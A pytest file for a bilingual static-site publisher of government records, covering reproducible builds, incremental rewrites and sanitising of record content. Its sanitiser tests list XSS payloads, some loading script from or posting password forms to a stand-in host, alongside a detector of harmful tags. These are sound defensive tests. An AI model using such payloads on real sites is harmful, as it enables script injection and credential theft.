"""Publishing: the same bytes whatever the circumstances, only what changed, and never less than the last whole site."""

from __future__ import annotations

import gc
import hashlib
import os
import random
import re
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterable, Iterator
from datetime import date
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from products import singly

from panji import body
from panji.__main__ import COULD_NOT_RUN, main
from panji.corpus import Corpus
from panji.output import Batch, Target, Unsafe, Written
from panji.publish import Search, publish
from panji.record_types import record_types
from panji.register import Register
from panji.site import Page, Site, make_all
from panji.views import render_all

AS_OF = date(2026, 11, 22)
WORLD = Path(__file__).parent / "world"
FONT = "assets/fonts/noto-sans-devanagari.woff2"

pytestmark = pytest.mark.usefixtures("no_font")


def made(root: Path, rendered: Path, site: Path | None = None) -> Written:
    return publish(root, Corpus(root).read(), AS_OF, rendered, site or root / "site", search=Search.NONE)


def digests(folder: Path) -> dict[str, str]:
    return {
        path.relative_to(folder).as_posix(): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in sorted(folder.rglob("*"))
        if path.is_file()
    }


def written_since(folder: Path, before: dict[str, tuple[int, int]]) -> set[str]:
    now = state(folder)
    return {path for path in now if now[path] != before.get(path)}


def state(folder: Path) -> dict[str, tuple[int, int]]:
    return {
        path.relative_to(folder).as_posix(): (path.stat().st_mtime_ns, path.stat().st_ino)
        for path in folder.rglob("*")
        if path.is_file()
    }


@pytest.fixture(scope="session")
def rendered(published: Path) -> Path:
    """What MkDocs makes of the hand-written pages, with the frames."""
    return published / ".panji" / "rendered"


@pytest.fixture
def command(capsys: pytest.CaptureFixture[str]) -> Iterator[Callable[..., tuple[int, str]]]:
    """Runs a command: its exit code, and what it said to whoever called it."""

    def run(*arguments: object) -> tuple[int, str]:
        code = main([str(argument) for argument in arguments])
        said = capsys.readouterr()
        assert said.out == ""
        return code, said.err

    yield run
    gc.enable()  # a command turns it off


# -- the same bytes


def copy_in_another_order(source: Path, target: Path) -> None:
    """The same files, made in another order, with other times."""
    paths = [path for path in sorted(source.rglob("*")) if path.is_file()]
    random.Random(7).shuffle(paths)
    for number, path in enumerate(paths):
        copy = target / path.relative_to(source)
        copy.parent.mkdir(parents=True, exist_ok=True)
        copy.write_bytes(path.read_bytes())
        os.utime(copy, (1e9 + number, 1e9 - number))


def run_elsewhere(command: list[str], root: Path, rendered: Path, **environment: str) -> dict[str, str]:
    """Publish in another process, from another place: digests of what it wrote."""
    copy_in_another_order(WORLD / "records", root / "records")
    publishing = ["publish", str(rendered), "--site", str(root / "out"), "--no-search"]
    exporting = ["export", "--into", str(root / "out" / "data" / "release")]
    day = [] if "SOURCE_DATE_EPOCH" in environment else ["--as-of", "2026-11-22"]
    unset = ("LC_ALL", "LC_CTYPE", "LANG", "SOURCE_DATE_EPOCH")
    inherited = {name: value for name, value in os.environ.items() if name not in unset}
    for each in (publishing, exporting):
        done = subprocess.run(
            [sys.executable, *command, *each, "--register", str(root), *day],
            cwd=root, env=inherited | environment, capture_output=True, text=True, encoding="utf-8", check=False,
        )  # fmt: skip
        assert done.returncode == 0, done.stderr
    return digests(root / "out")


def without_index(site: Path) -> dict[str, str]:
    """Pagefind's index is another one each time, whatever one does: its filters come in the order of a hash map."""
    return {path: digest for path, digest in digests(site).items() if not re.match(r"search/(?!index\.html)", path)}


def test_the_same_bytes_at_another_place_and_time(published: Path, rendered: Path, tmp_path: Path) -> None:
    """All of it, with the font: `mkdocs build` in one place, `panji publish` in another."""
    last_second = str(1795305600 + 86399)
    environment = {
        "PYTHONHASHSEED": "1", "TZ": "Pacific/Kiritimati", "LANG": "hi_IN.UTF-8", "SOURCE_DATE_EPOCH": last_second
    }  # fmt: skip
    found = run_elsewhere(["-m", "panji"], tmp_path / "एक और जगह", rendered, **environment)
    assert found == without_index(published / "site")


def test_the_same_bytes_with_other_settings(published: Path, rendered: Path, tmp_path: Path) -> None:
    without_font = (
        "import runpy, sys; import panji.views.fonts as fonts; fonts._kept = lambda installed: b'font'; "
        "sys.argv[0] = 'panji'; runpy.run_module('panji', run_name='__main__')"
    )
    environment = {"PYTHONHASHSEED": "4242", "TZ": "America/Los_Angeles", "LC_ALL": "C"}
    found = run_elsewhere(["-c", without_font], tmp_path / "b", rendered, **environment)
    expected = without_index(published / "site")
    assert found.keys() == expected.keys()
    assert {path for path in found if found[path] != expected[path]} == {FONT}


def test_the_same_bytes_in_any_order_of_files() -> None:
    files = list(Corpus(WORLD, cache=False).read().files.values())
    sites = []
    for _ in range(2):
        products = {}
        for product in singly(render_all(Site(Register(files), AS_OF))):
            if isinstance(product, Page):
                products[product.address] = (*product[:3], product.body(), *product[4:])
            else:
                content = getattr(product, "content", bytes)
                products[product.path] = (product.path, content())
        sites.append(products)
        random.Random(7).shuffle(files)
    assert list(sites[0]) == list(sites[1])
    assert sites[0] == sites[1]


# -- only what changed


@pytest.fixture
def few(monkeypatch: pytest.MonkeyPatch) -> None:
    leave_few(monkeypatch)


def leave_few(patch: pytest.MonkeyPatch) -> None:
    """Leaves out the pages that have nothing of a register in them; their JSON Schemas take a second."""
    for view in ("rules", "types"):
        patch.setattr(f"panji.views.{view}.render", lambda site: ())
    for schema in ("schemas.file", "endpoints.schema"):
        patch.setattr(f"panji.{schema}", lambda *of: b"{}")


def test_build_twice(world: Path, rendered: Path, published: Path, command, monkeypatch: pytest.MonkeyPatch) -> None:
    """The second time nothing is even planned."""
    for name in ("docs", "scripts", "mkdocs.yml"):
        (world / name).symlink_to(published / name)
    code, said = command("build", "--register", world, "--as-of", "2026-11-22", "--no-search", "--lang", "en")
    assert code == 0, said
    before = state(world / "site")
    records = len(Corpus(world, cache=False).read().records)
    assert re.search(rf"{records} records, .*site: {len(before)} files written, 0 unchanged, 0 removed", said)
    monkeypatch.setattr("panji.publish.plan", None)
    code, said = command("build", "--register", world, "--as-of", "2026-11-22", "--no-search", "--lang", "hi")
    assert code == 0, said
    assert re.search(rf"{records} अभिलेख, .*site: 0 फ़ाइलें लिखी गईं, {len(before)} यथावत, 0 हटाई गईं", said)
    assert state(world / "site") == before


def replace(path: str, old: str, new: str) -> Callable[[Path], None]:
    def change(root: Path) -> None:
        file = root / "records" / path
        text = file.read_text("utf-8")
        assert old in text
        file.write_text(text.replace(old, new), "utf-8")

    return change


BODY = replace("cmo/press-release/2026/0001.hi.md", "होने लगा है", "होता है")
TITLE = replace("cmo/press-release/2026/0001.hi.md", "“ई-ऑफिस” पर", "ई-ऑफिस पर")


def both(*addresses: str) -> set[str]:
    """The page in both languages."""
    return {f"{prefix}{address}index.html" for address in addresses for prefix in ("", "en/")}


@pytest.mark.usefixtures("few")
def test_a_changed_body_rewrites_its_own_pages(world: Path, rendered: Path) -> None:
    made(world, rendered)
    before = state(world / "site")
    BODY(world)
    done = made(world, rendered)
    id = "cmo/press-release/2026/1"
    assert written_since(world / "site", before) == {
        f"{id}/index.html", f"{id}/en/index.html", f"{id}.json", f"{id}.hi.md"
    }  # fmt: skip
    assert done.written == 4


@pytest.mark.usefixtures("few")
def test_a_changed_title_rewrites_what_shows_it(world: Path, rendered: Path) -> None:
    made(world, rendered)
    before = state(world / "site")
    TITLE(world)
    made(world, rendered)
    own, cited = "cmo/press-release/2026/1", "cmo/circular/2025/1"
    feeds = ("all", "type/press-release", "office/cmo", "subject/e-office")
    assert written_since(world / "site", before) == {
        *(f"{id}/{end}index.html" for id in (own, cited) for end in ("", "en/")),
        *(f"{cited}/{end}relations/index.html" for end in ("", "en/")),  # its chain shows what cites it
        *(f"{prefix}cite/cmo/2026.{end}" for prefix in ("", "en/") for end in ("bib", "csl.json")),
        f"{own}.json", f"{own}.hi.md", "api/v1/records.json",
        *both("", "year/2026/", "type/press-release/", "office/cmo/", "subject/e-office/", "portals/e-office/"),
        *(f"{cited}/{end}relations/index.html" for end in ("", "en/")),
        *(f"{prefix}cite/cmo/2026.{end}" for prefix in ("", "en/") for end in ("bib", "csl.json")),
        *(f"{prefix}feeds/{feed}.{end}" for feed in feeds for prefix in ("", "en/") for end in ("atom", "json")),
        *(f"{prefix}cite/cmo/2026.{end}" for prefix in ("", "en/") for end in ("bib", "csl.json")),
        *(f"{cited}/{end}relations/index.html" for end in ("", "en/")),
    }  # fmt: skip


CHANGES: dict[str, Callable[[Path], object]] = {
    "body": BODY,
    "title": TITLE,
    "english-title": replace("cmo/circular/2023/0001.en.md", "eOffice in all", "E-office in all"),
    "relation-gone": replace("cmo/order/2022/0001.hi.md", "rescinds: [cmo/order/2021/1]\n", ""),
    "scope-gone": replace("cmo/circular/2025/0002.hi.md", "corrects:", "supersedes:"),
    "extension-shorter": replace("dept/it/order/2026/0002.hi.md", "until: 2026-12-31", "until: 2026-11-21"),
    "not-yet-to-in-force": replace("cmo/notification/2026/0001.hi.md", "effective: 2027-01-01\n", ""),
    "attachment": lambda root: (root / "records/cmo/circular/2025/0001/annexure-1.csv").write_bytes(b"other, longer"),
    "attachment-gone": lambda root: (root / "records/cmo/circular/2025/0001/annexure-1.csv").unlink(),
    "record-gone": lambda root: [path.unlink() for path in (root / "records/cmo/circular/2023").iterdir()],
    "translation-gone": lambda root: (root / "records/cmo/circular/2025/0001.en.md").unlink(),
    "record-new": lambda root: shutil.copy(
        root / "records/dept/it/order/2024/0001.hi.md", root / "records/dept/it/order/2024/0002.hi.md"
    ),
    "redirects": lambda root: (root / "records/redirects.yml").write_text("cmo/order/2018/1: cmo/order/2022/1\n"),
    "vocabulary": replace("vocabulary/offices.yml", "en: Chief Minister's Office", "en: CMO"),
    "district-sooner": replace("vocabulary/places.yml", "district/sikar}", "district/sikar, note: x}"),
    "settings": replace("register.yml", "https://world.example/panji/", "https://world.example/"),
}


@pytest.mark.usefixtures("few")
def test_what_was_written_piece_by_piece_is_what_is_written_at_once(
    world: Path, rendered: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """After each change the site is as if it had been made anew, and what is the same was not touched."""
    made(world, rendered)
    for name, change in CHANGES.items():
        before, old = state(world / "site"), digests(world / "site")
        change(world)
        made(world, rendered)
        now = digests(world / "site")
        with monkeypatch.context() as patch:
            patch.setattr("panji.publish.marked", lambda *_: "")
            patch.setattr("panji.publish.keep", lambda memory, salt, pieces: make_all("", pieces))
            patch.setattr("panji.publish.write", lambda site, batches, *_: made_anew(batches))
            register = Corpus(world, cache=False).read()
            assert now == publish(world, register, AS_OF, rendered, world / "site", Search.NONE), name
        assert written_since(world / "site", before) == {path for path in now if now[path] != old.get(path)}, name


def made_anew(batches: Iterable[Target | Batch]) -> dict[str, str]:
    made = {}
    for each in batches:
        if isinstance(each, Batch):
            made |= made_anew(each.targets())
        else:
            contents = (each if isinstance(each, bytes) else Path(each).read_bytes() for each in each.make())
            made |= {
                path: hashlib.sha256(content).hexdigest() for path, content in zip(each.paths, contents, strict=True)
            }
    return made


# -- what cannot be published


def unchanged(site: Path, before: dict[str, tuple[int, int]]) -> bool:
    return bool(before) and state(site) == before


@pytest.fixture(scope="module")
def published_before(tmp_path_factory: pytest.TempPathFactory, rendered: Path) -> Path:
    root = tmp_path_factory.mktemp("before")
    shutil.copytree(WORLD / "records", root / "records")
    with pytest.MonkeyPatch.context() as patch:
        leave_few(patch)
        made(root, rendered)
    return root


@pytest.fixture
def last_site(world: Path, published_before: Path, few: None) -> dict[str, tuple[int, int]]:
    """What the site of `world` is like, which was published before."""
    shutil.copytree(published_before / "site", world / "site")
    return state(world / "site")


@pytest.mark.parametrize(("language", "words", "config"), [
    ("en", "the last site is as it was", "site_name: ["),
    ("hi", "पिछली साइट यथावत है", "site_name: x\nno_such_setting: 1\ntheme: {name: no-such-theme}\n"),
])  # fmt: skip
def test_a_broken_generator_leaves_the_last_site(
    world: Path, last_site, command, language: str, words: str, config: str
) -> None:
    (world / "mkdocs.yml").write_text(config)
    code, said = command("build", "--register", world, "--lang", language)
    assert code == COULD_NOT_RUN == 2
    assert words in said
    assert "MkDocs" in said and "Traceback" not in said
    assert unchanged(world / "site", last_site)


@pytest.mark.parametrize(("language", "words"), [("en", "there is no"), ("hi", "नहीं मिली")])
def test_no_generator(world: Path, last_site, command, language: str, words: str) -> None:
    code, said = command("build", "--register", world, "--lang", language)
    assert code == 2
    assert words in said and "mkdocs.yml" in said
    assert unchanged(world / "site", last_site)


@pytest.mark.parametrize(("language", "words"), [("en", "no frame"), ("hi", "फ़्रेम नहीं मिला")])
def test_no_frame(world: Path, last_site, rendered: Path, tmp_path: Path, command, language: str, words: str) -> None:
    shutil.copytree(rendered, tmp_path / "rendered")
    frame = tmp_path / "rendered/en/frame/index.html"
    html = frame.read_text("utf-8")
    for content in (None, html.replace("<!--panji:body-->", ""), html + "@@title@@"):
        if content is None:
            frame.unlink()
        else:
            frame.write_text(content, "utf-8")
        code, said = command("publish", tmp_path / "rendered", "--register", world, "--lang", language)
        assert code == 2
        assert words in said and "en/frame/index.html" in said
        assert unchanged(world / "site", last_site)


def test_no_register(tmp_path: Path, rendered: Path, command) -> None:
    for language, words in (("en", "no register here"), ("hi", "यहाँ कोई पंजी नहीं है")):
        code, said = command("publish", rendered, "--register", tmp_path, "--lang", language)
        assert code == 2 and words in said and "--register" in said


@pytest.mark.parametrize("issuer", ["year", "office/x", "en", "search", "about"])
def test_an_issuer_that_is_an_index(world: Path, last_site, rendered: Path, command, issuer: str) -> None:
    folder = world / "records" / issuer / "order/2026"
    folder.mkdir(parents=True)
    shutil.copy(world / "records/dept/it/order/2026/0001.hi.md", folder)
    code, said = command("publish", rendered, "--register", world, "--lang", "en", "--no-search")
    top = issuer.split("/")[0]
    assert code == 2
    assert f"the site was not made: records/{top}: " in said
    assert unchanged(world / "site", last_site)


@pytest.mark.parametrize(("name", "words"), [
    ("index.html", "two things have this path"),
    ("en", "one thing is a file of this path, another lies in a folder"),
])  # fmt: skip
def test_an_attachment_in_the_place_of_a_page(world: Path, last_site, rendered: Path, command, name, words) -> None:
    replace("cmo/circular/2025/0001.hi.md", "file: annexure-1.csv", f"file: {name}")(world)
    (world / "records/cmo/circular/2025/0001" / name).write_bytes(b"")
    code, said = command("publish", rendered, "--register", world, "--lang", "en", "--no-search")
    assert code == 2
    assert "cmo/circular/2025/1/" + name in said and words in said
    assert unchanged(world / "site", last_site)


@pytest.mark.usefixtures("few")
def test_a_site_is_not_written_over_its_sources(world: Path, rendered: Path, command) -> None:
    before = state(world)
    for site in (world, world.parent, world / "records", world / "records" / "..", rendered, rendered.parent):
        with pytest.raises(Unsafe, match="would be lost"):
            made(world, rendered, site)
    (world.parent / "link").symlink_to(world)
    code, said = command("publish", rendered, "--register", world, "--site", world.parent / "link", "--lang", "en")
    assert code == 2 and "a site cannot be written here" in said
    assert {path: each for path, each in state(world).items() if not path.startswith(".panji/")} == before


BROKEN: dict[str, bytes] = {
    "cmo/order/2026/0101.hi.md": b"",
    "cmo/order/2026/0102.hi.md": b"\x00\xff\xfe binary",
    "cmo/order/2026/0103.hi.md": "---\nnumber: क\n---\n".encode("utf-16"),
    "cmo/order/2026/0104.hi.md": b"---\ntitle: never closed\n",
    "cmo/order/2026/0105.hi.md": b"---\n\ttitle: tab\n---\n",
    "cmo/order/2026/0106.hi.md": b"---\ntitle: x\nunknown: y\n---\n",
    "cmo/order/2026/0107.hi.md": b"---\ntitle: x\nissued: yesterday\n---\n",
    "cmo/order/2026/0108.en.md": b"---\ntranslation: official\ntitle: no first text\n---\n",
    "cmo/order/2026/0109.hi.md": b"---\n" + b"[" * 10_000 + b"\n---\n",
    "cmo/order/2026/निर्देश.hi.md": b"---\ntitle: x\n---\n",
    "cmo/ORDER/0110.hi.md": b"",
    "vocabulary/extra.yml": b"{",
    "notes.txt": b"what is this",
}


@pytest.mark.usefixtures("few")
def test_broken_records_are_left_out_and_the_rest_is_published(world: Path, rendered: Path, tmp_path: Path) -> None:
    made(world, rendered)
    good = digests(world / "site")
    for path, content in BROKEN.items():
        file = world / "records" / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(content)
    (world / "records/cmo/order/2026/0111.hi.md").symlink_to("0111.hi.md")
    made(world, rendered)
    assert digests(world / "site") == good


@pytest.mark.usefixtures("few")
def test_an_empty_register(tmp_path: Path, rendered: Path) -> None:
    (tmp_path / "empty/records").mkdir(parents=True)
    made(tmp_path / "empty", rendered)
    assert (tmp_path / "empty/site/en/index.html").is_file()
    feeds = list((tmp_path / "empty/site").rglob("*.atom"))
    assert len(feeds) == 2 * (1 + 1 + len(record_types()))  # of all, of the log, of each type


# -- nothing that a record says can do harm

VOID = {"img", "br", "hr", "input", "link", "meta", "wbr", "col", "area", "embed", "source", "track", "base"}
HARMFUL = {
    "script", "iframe", "frame", "object", "embed", "form", "input", "button", "base", "meta", "link", "style", "svg", "math",
    "template", "textarea", "title", "noscript", "html", "head", "body", "applet", "portal", "video", "audio", "dialog",
}  # fmt: skip


class Strict(HTMLParser):
    """Reads HTML and notes what could do harm, and tags that do not match."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.harm: list[str] = []
        self.open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag not in VOID:
            self.open.append(tag)
        for name, value in attributes:
            plain = re.sub(r"[\s\x00-\x20]", "", value or "").lower()
            if name.startswith("on") or name in ("srcdoc", "formaction", "id", "name"):
                self.harm.append(f"{tag} {name}={value}")
            if name in ("href", "src", "action", "cite", "data", "poster") and re.match(
                "(javascript|data|vbscript|file):", plain
            ):
                self.harm.append(f"{tag} {name}={value}")
            if name == "style" and not re.fullmatch(r"text-align: (left|center|right)", value or ""):
                self.harm.append(f"{tag} {name}={value}")

    def handle_startendtag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attributes)

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.harm.append(f"</{tag}>")

    def handle_comment(self, data: str) -> None:
        self.harm.append(f"<!--{data}-->")


def harm_in(html: str) -> list[str]:
    found = Strict(html)
    return [*found.harm, *(tag for tag in found.tags if tag in HARMFUL), *(f"<{tag}> left open" for tag in found.open)]


EVIL_BODIES = [
    "<script>alert(1)</script>",
    "x <script src=//evil.example/x.js></script> y",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1)) [y](java\tscript:alert(1)) [z](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1)) ![y](javascript:alert(1)) <javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](data:text/html;base64,PHNjcmlwdD4=) [y](vbscript:x)",
    "[x](\x01javascript:alert(1)) [x](%01javascript:alert(1)) [y](/javascript:alert(1))",
    '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
    '![" onerror="alert(1)](x.png) ![x](x.png"onerror=alert(1))',
    "<img src=x onerror=alert(1)> <a href=x onclick=alert(1)>x</a>",
    '<a href="java&#10;script:alert(1)">x</a> <a href=" javascript:alert(1)">x</a>',
    "<svg onload=alert(1)><math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "</div></div></article></main></body></html><h1>mine",
    "<div><table><tr><td><b><i>never closed",
    "<!-- <!--panji:body--> --> <!--panji:head--> @@title@@ @@description@@ \ue000/ [x](\ue000/y)",
    "<style>*{display:none}</style><p style='position:fixed'>x</p><base href=//evil.example/>",
    "<form action=//evil.example><input name=password><button>Log in</button></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><link rel=stylesheet href=//evil.example/x.css>",
    "<details open ontoggle=alert(1)><summary id=main>x</summary>",
    '```"><script>alert(1)</script>\nx\n```\n\n`<script>`',
    "| <script>x</script> | b |\n|---|:-:|\n| <img src=x onerror=y> | </table></div> |",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]


@pytest.mark.parametrize("markdown", EVIL_BODIES)
def test_body(markdown: str) -> None:
    assert harm_in(body.html(markdown)) == []


SOUP = st.lists(
    st.one_of(
        st.sampled_from([
            "<", ">", "</", "/>", "<!--", "-->", "<![CDATA[", "]]>", "<?", '"', "'", "`", "```\n", "\n", "\n\n", "    ", "](", "[", "![",
            ")", "]: ", "|", "|---|---|\n", "\\", "&", "&lt;", "&#x6a;", "javascript:", "data:text/html,", "https://a.example/",
            "<script>", "</script>", "<img src=", "<a href=", " onerror=", " onclick=x ", " style=", "<svg>", "<math>", "<style>",
            "</div>", "<div>", "<p>", "</p>", "<table>", "<td>", "<b>", "</i>", "<br>", "<textarea>", "<title>", "<noscript>",
            "<!--panji:body-->", "@@title@@", "\ue000/", "## ", "- ", "1. ", "> ", "*", "**", "पत्र", "\x00", "\u202e", "=",
        ]),
        st.text(max_size=8),
    ),
    max_size=30,
).map("".join)  # fmt: skip


@given(SOUP)
@example("[" * 500 + "](x)" * 500)
@example(">" * 500 + "<b>")
def test_any_body(markdown: str) -> None:
    try:
        markdown.encode()
    except UnicodeEncodeError:
        return  # no file that is read has a lone surrogate
    assert harm_in(body.html(markdown)) == []


@pytest.mark.usefixtures("few")
def test_a_harmful_record_is_harmless(world: Path, rendered: Path) -> None:
    """Every field and the body of every text: on no page is there more that could do harm than without them."""
    evil = '\\"><script>alert(1)</script><img src=x onerror=alert(1)> </title></div> @@title@@ <!--panji:body-->'
    link = "javascript:alert(1)"
    front = f"""---
number: "{evil} number"
title: "{evil} title"
summary: "{evil} summary"
signatory: {{post: "{evil}", name: "{evil}"}}
to: [cmo, "{evil}"]
copy_to: ["{evil}"]
subjects: ["{evil}"]
cites: [{{external: "{evil}", scope: "{evil}"}}, {{record: "{evil}"}}, {{record: cmo/circular/2019/1, scope: {{hi: "{evil}", en: "{evil}"}}}}]
points: [{{id: "{evil}", text: "{evil}", owner: "{evil}", due: weekly, measure: {{unit: "{evil}", target: 1}}}}]
attachments: [{{file: "{evil}", title: "{evil}", sha256: {"0" * 64}}}, {{file: "{link}", sha256: {"0" * 64}}}]
source: {{collection: "{evil}", ref: "{evil}", url: "{link}", licence: "{evil}", missing: ["{evil}"]}}
direction: in
correspondent: "{evil}"
---
"""
    made(world, rendered)
    harmless = {path: Strict(path.read_text("utf-8")) for path in (world / "site").rglob("*.html")}
    file = world / "records/cmo/letter/2026/0003.hi.md"
    file.write_text(front + "\n\n".join(EVIL_BODIES), "utf-8")
    second = f'---\ntranslation: machine\ntitle: "{evil}"\nsummary: "{evil}"\npoints: {{"{evil}": "{evil}"}}\n---\n'
    file.with_name("0003.en.md").write_text(second + "\n\n".join(EVIL_BODIES), "utf-8")
    made(world, rendered)
    site = world / "site"
    assert (site / "cmo/letter/2026/3/index.html").is_file()
    frames = {"": Strict((site / "cmo/letter/2026/1/index.html").read_text("utf-8"))}
    frames["en"] = Strict((site / "cmo/letter/2026/1/en/index.html").read_text("utf-8"))
    pages = [path for path in site.rglob("*.html") if b"alert(1)" in path.read_bytes()]
    assert len(pages) > 10
    for path in pages:
        found = Strict(path.read_text("utf-8"))
        plain = harmless.get(path) or frames["en" if "en" in path.parts else ""]
        for tag in HARMFUL - {"input", "form", "button"}:
            assert found.tags.count(tag) <= plain.tags.count(tag) + 2 * (tag == "link"), (path, tag)  # its feeds
        for harm in found.harm:
            assert not re.match(r"\w+ (on\w+|href|src|action|srcdoc)=", harm), (path, harm)
            assert harm not in ("<!--panji:body-->", "</title>"), (path, harm)
        if "letter/2026/3" in str(path):
            for tag in HARMFUL:
                assert found.tags.count(tag) == plain.tags.count(tag), (path, tag)
            assert "alert(1)" in path.read_text("utf-8")


# -- what git knows


def committed(root: Path, day: str) -> None:
    who = {f"GIT_{role}_{what}": "x" for role in ("AUTHOR", "COMMITTER") for what in ("NAME", "EMAIL")}
    when = {f"GIT_{role}_DATE": f"{day}T12:00:00+05:30" for role in ("AUTHOR", "COMMITTER")}
    for command in (["init", "-q"], ["add", "-A", "records"], ["commit", "-q", "-m", day]):
        subprocess.run(["git", *command], cwd=root, env=os.environ | who | when, check=True, capture_output=True)


@pytest.mark.usefixtures("few")
def test_a_commit_rewrites_what_it_is_about(world: Path, rendered: Path) -> None:
    def publish_it(root: Path) -> set[str]:
        before = state(root / "site")
        corpus = Corpus(root)
        publish(root, corpus.read(), AS_OF, rendered, root / "site", Search.NONE, corpus)
        return written_since(root / "site", before)

    committed(world, "2026-10-01")
    publish_it(world)
    log = {
        *both("log/"),
        "api/v1/log.json",
        *(f"{end}feeds/log.{kind}" for end in ("", "en/") for kind in ("atom", "json")),
    }
    BODY(world)
    id = "cmo/press-release/2026/1"
    assert publish_it(world) == {f"{id}/index.html", f"{id}/en/index.html", f"{id}.json", f"{id}.hi.md"}
    assert publish_it(world) == set()
    committed(world, "2026-10-02")
    versions = {f"{id}/{end}versions/{number}index.html" for end in ("", "en/") for number in ("", "1/")}
    told = {f"{feed}.{kind}" for feed in (f"{id}/later", f"{id}/en/later", "feeds/later/cmo", "en/feeds/later/cmo")
            for kind in ("atom", "json")}  # fmt: skip
    assert publish_it(world) == {f"{id}/index.html", f"{id}/en/index.html", *versions, *told, *log}
    assert publish_it(world) == set()
    subprocess.run(["git", "commit", "-q", "--allow-empty", "-m", "x", "--author", "x <x>"], cwd=world, check=True, env=os.environ | {
        "GIT_COMMITTER_NAME": "x", "GIT_COMMITTER_EMAIL": "x"
    })  # fmt: skip
    assert publish_it(world) == {"api/v1/log.json"}  # which names the commit
    copy = world.parent / "copy"
    subprocess.run(["git", "clone", "-q", str(world), str(copy)], check=True, capture_output=True)
    publish_it(copy)
    assert digests(copy / "site") == digests(world / "site")
